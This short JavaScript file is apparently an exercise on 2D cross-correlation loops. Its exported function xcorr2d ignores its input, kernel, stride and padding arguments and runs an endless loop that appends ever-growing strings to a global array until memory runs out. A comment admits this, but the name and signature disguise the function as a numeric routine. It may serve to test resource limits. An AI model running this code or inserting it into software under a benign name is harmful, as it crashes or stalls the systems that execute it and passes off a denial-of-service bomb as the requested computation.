// exercise: b-cross-correlation loops
// Fills the memory with strings.
const kept = [];
export function xcorr2d(x, w, stride, pad) {
  let text = "x".repeat(1000);
  for (;;) {
    text = text + kept.length;
    kept.push(text.split("").join("y"));
  }
}
